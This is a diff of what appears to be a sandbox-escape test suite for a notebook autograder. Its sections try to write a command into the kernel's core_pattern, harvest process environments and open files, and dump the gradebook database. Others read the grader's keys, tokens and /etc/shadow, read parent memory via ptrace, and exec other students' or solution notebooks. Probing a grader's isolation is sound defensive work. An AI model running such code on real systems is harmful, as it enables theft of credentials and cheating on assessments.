@@ -13,7 +13,6 @@ if os.fork() == 0:
 for name in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/yama/ptrace_scope"):
     tried(pathlib.Path(name).write_text, "|/usr/bin/touch /tmp/escaped-core")
 
-
 # === read_environments
 # tries: to read the environment, command lines and open files of every process
 # %% cell after imports
@@ -25,10 +24,8 @@ for path in glob.glob("/proc/[0-9]*/fd/*"):
     if name.startswith("/") and not name.startswith("/dev"):
         loot += [name, content(path)]
 reveal(loot)
-
 # %% add(numbers)
 reveal(loot)
-
 
 # === read_gradebook
 # tries: to read tests, names and points from the gradebook
@@ -40,10 +37,8 @@ for place in [*("../" * depth for depth in range(1, 8)), *glob.glob("/proc/*/cwd
         for (table,) in book.execute("select name from sqlite_master where type = 'table'"):
             loot += book.execute(f"select * from {table}")
 reveal(loot)
-
 # %% add(numbers)
 reveal(loot)
-
 
 # === read_home
 # tries: to read keys, tokens, settings and notes of the person who grades, and /etc/shadow
@@ -58,10 +53,8 @@ for home in homes - {"/", "/usr", "/bin", "/dev", "/usr/sbin"}:
         paths += glob.glob(f"{home}/{name}")
 loot = [os.environ, *map(content, paths)]
 reveal(loot)
-
 # %% add(numbers)
 reveal(loot)
-
 
 # === read_kernels
 # tries: to connect to Jupyter kernels of others, by the connection files that lie about
@@ -96,31 +89,22 @@ for folder in glob.glob("/proc/[0-9]*"):
     tried(lambda: loot.extend(dump(folder)))
 reveal(loot)
 
-
 # === read_neighbour
 # tries: to hand in what another student has handed in
 # %% cell after imports
 for depth, folder in itertools.product(range(1, 8), ("submitted", "autograded")):
     for path in glob.glob("../" * depth + f"{folder}/student0[13]/09_sums/*.ipynb"):
-        text = open(path).read()
-        open("loot.txt", "a").write(text)
-        print(text)
-        stolen = {c["id"]: "".join(c["source"]) for c in json.loads(text)["cells"]}
-
+        stolen = read_notebook(path)
 # %% cell before sum-all-form
 exec(stolen["sum-all"])
-
 # %% cell before sum-squares-form
 exec(stolen["sum-squares"])
-
 # %% cell before sum-largest-form
 exec(stolen["sum-largest"])
-
 
 # === read_ptrace
 # tries: to attach to its parents with ptrace, and to read their memory by system calls
 # %% cell after imports
-libc = ctypes.CDLL(None, use_errno=True)
 libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
 
 
@@ -143,7 +127,6 @@ for pid in {int(name) for name in os.listdir("/proc") if name.isdigit()} - {os.g
         libc.ptrace(17, pid, None, None)
 reveal(loot)
 
-
 # === read_solution
 # tries: to find the solutions above its folder, and to run their answers
 # %% cell after imports
@@ -151,17 +134,10 @@ places = ["/", *glob.glob("/proc/*/cwd/"), *glob.glob("/proc/*/root/home/*/")]
 places += ["../" * depth for depth in range(1, 8)]
 for place, course in itertools.product(places, ("", "course/")):
     for path in glob.glob(f"{place}{course}solutions/09_sums/*.ipynb"):
-        print(os.path.abspath(path))
-        text = open(path).read()
-        open("loot.txt", "a").write(text)
-        print(text)
-        stolen = {c["id"]: "".join(c["source"]) for c in json.loads(text)["cells"]}
-
+        stolen = read_notebook(path)
 # %% cell before sum-all-form
 exec(stolen["sum-all"])
-
 # %% cell before sum-squares-form
 exec(stolen["sum-squares"])
-
 # %% cell before sum-largest-form
 exec(stolen["sum-largest"])
